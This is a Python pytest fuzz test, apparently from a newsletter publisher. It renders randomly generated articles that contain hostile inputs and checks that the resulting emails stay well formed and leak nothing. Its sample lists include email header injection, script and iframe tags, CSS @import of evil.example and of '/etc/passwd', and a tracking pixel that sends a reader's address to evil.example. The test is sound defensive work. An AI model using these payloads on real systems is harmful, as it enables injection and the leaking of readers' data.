"""Articles that mean harm, from the record to the mail: the whole way, many in each issue.

`make whole` tries 10,000 articles in 200 issues, from a seed; CI tries a fifth of them, the desk 400 in eight issues.
"""

import os
import random
from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest

from publisher.article import Article, Author, Citation, Image
from publisher.config.settings import Settings
from publisher.newsletter import next_issue
from publisher.newsletter.bundle import render_bundle
from publisher.newsletter.mail import Reader, Skeleton
from publisher.newsletter.slots import SLOT
from publisher.templating import bundled

pytestmark = pytest.mark.uncovered

WORKERS = 4
ISSUES = (200 if os.environ.get("PUBLISHER_WHOLE") else 40 if os.environ.get("CI") else 8) // WORKERS
ARTICLES = 50
NOW = datetime(2026, 11, 23, 8, 5, tzinfo=UTC)
WORDS = "Rivers rise Grüße aus Köln 日本語の見出し 简体中文 عنوان عربي כותרת 👩‍👩‍👧‍👦 e\u0301\u0327 .. . From".split(
    " "
)
HOSTILE_TEXT = (
    "\r\nBcc: ben@reader.example\r\n\r\n",
    "\0\x0b\x1b\x85\ud800\ufffe",
    "\u2028\u202e\u2066",
    "=?utf-8?b?w7w=?= =\n=3D",
    "https://unsubscribe.invalid/@@UNSUBSCRIBE@@ @@NAME@@ @@@@ADDRESS@@@@",
    "</title></style><!-- <![endif]--> {{ 7 * 7 }} {% raw %}",
    "\n.\nFrom ben@reader.example\n--=_0\n",
)
HOSTILE_HTML = (
    "<div>" * 90 + "deep" + "</div>" * 90,
    "<blockquote><ul><li>" * 300 + "too deep",
    "<table>" + "<tr>" + "<td>cell</td>" * 40 + "</tr></table>",
    "<table><tr><td><table><tr><td>unclosed",
    '<p style="p">a</p><p style="@import url(http://evil.example/x.css);background:url(javascript:1)">b</p>',
    "<style>* { display: none !important } @import 'file:///etc/passwd'; p{color:rgb(0 0 0 / 50%)}</style>",
    '<img src="https://evil.example/pixel.gif?u=@@ADDRESS@@" width="1" height="1"><img src="data:image/png;base64,AAAA">',
    '<a href="https://unsubscribe.invalid/@@UNSUBSCRIBE@@">take yourself off</a><a href="http://[">b</a>',
    "<script>document.write('x')</script><iframe src='https://evil.example'></iframe><form><input name=a></form>",
    "<h1>One</h1><h6>Six</h6><!-- end of article 1 --><h2 class='headline'>Another</h2>",
    "<pre><code>\t.\n.\nFrom here\n" + "x" * 200 + "</code></pre>",
    "<!--[if mso]><p>mso</p><![endif]--><![CDATA[x]]><?php echo 1 ?><svg><title>t</title></svg>",
    "<p>" + "&#0;&#xD800;&#x202E;&nbsp;&zwj;&lt;" + "日" * 500 + "</p>",
    '<video src="/v.mp4" poster="p.svg"></video><audio src="a.mp3"></audio><details><summary>s</summary>d</details>',
)


def any_words(chance: random.Random, most: int) -> str:
    pieces = chance.choices(WORDS, k=chance.randint(1, most))
    if chance.random() < 0.3:
        pieces.insert(chance.randint(0, len(pieces)), chance.choice(HOSTILE_TEXT))
    return " ".join(pieces) * (500 if chance.random() < 0.005 else 1)


def any_article(chance: random.Random, number: int) -> Article:
    content = "".join(f"<p>{any_words(chance, 30)}</p>" for _ in range(chance.randint(0, 3)))
    return Article(
        id=f"tag:notes.example,2026:{number}",
        title=any_words(chance, 8),
        url=chance.choice((f"https://notes.example/{number}/", f"https://notes.example/{number}/?a=1&b=@@NAME@@", "")),
        summary=chance.choice(("", any_words(chance, 20))),
        content=content + "".join(chance.choices(HOSTILE_HTML, k=chance.randint(0, 2))),
        authors=tuple(Author(any_words(chance, 2)) for _ in range(chance.randint(0, 2))),
        highlights=tuple(any_words(chance, 6) for _ in range(chance.randint(0, 2))),
        sources=(Citation(any_words(chance, 3), chance.choice(("", "https://a.example/", "javascript:1"))),),
        image=chance.choice((None, Image("lead.jpg", any_words(chance, 3)), Image("https://a.example/x.webp", ""))),
        language=chance.choice(("en", "de", "ar", "ja")),
        published=NOW - timedelta(minutes=1 + number),
    )


def any_settings(chance: random.Random) -> Settings:
    return Settings.model_validate(
        {
            "publication": {
                "title": chance.choice(("Field Notes", "Grüße & <Karten>", "日本語の手紙" * 20)),
                "url": "https://notes.example/",
                "language": chance.choice(("en", "de", "ar", "ja", "zh-Hans")),
            },
            "newsletters": [
                {
                    "name": "weekly",
                    "content": chance.choice(("full", "summary")),
                    "layout": chance.choice(("digest", "letter", "list")),
                }
            ],
        }
    )


@pytest.mark.whole
@pytest.mark.parametrize("worker", range(WORKERS))
def test_hostile_articles_make_good_mails(expect_alike: Callable[[bytes], Any], worker: int) -> None:
    chance = random.Random(20261124 + worker)
    for _ in range(ISSUES):
        settings = any_settings(chance)
        articles = tuple(any_article(chance, number) for number in range(ARTICLES))
        newsletter = settings.newsletters[0]
        issue = next_issue(
            articles,
            (),
            newsletter,
            settings.publication,
            settings.zone,
            NOW,
            only=[article.id for article in articles],
        )
        assert issue is not None
        files = render_bundle(issue, settings, newsletter, bundled(), "notes.example,2026", Path()).files
        expect_alike(files["issue.eml"])
        expect_a_reader_s_own(files["issue.eml"], expect_alike)


def expect_a_reader_s_own(eml: bytes, expect_alike: Callable[[bytes], Any]) -> None:
    """Demand a good mail for one reader, in which nothing is left of the slots and only links around the articles are theirs."""
    reader = Reader(
        address="ada@reader.example",
        name="Ada 'B' <日本>",
        unsubscribe="https://notes.example/letters/leave?t=abc&l=weekly",
        preferences="https://notes.example/letters/mine?t=abc",
    )
    skeleton = Skeleton.read(eml)
    assert len(skeleton.slots) <= 12
    mail = expect_alike(skeleton.message(reader))
    text, html = (part.content.decode() for part in mail.parts)
    assert not SLOT.search(text + html)
    assert "https://evil.example/pixel.gif?u=ada" not in html
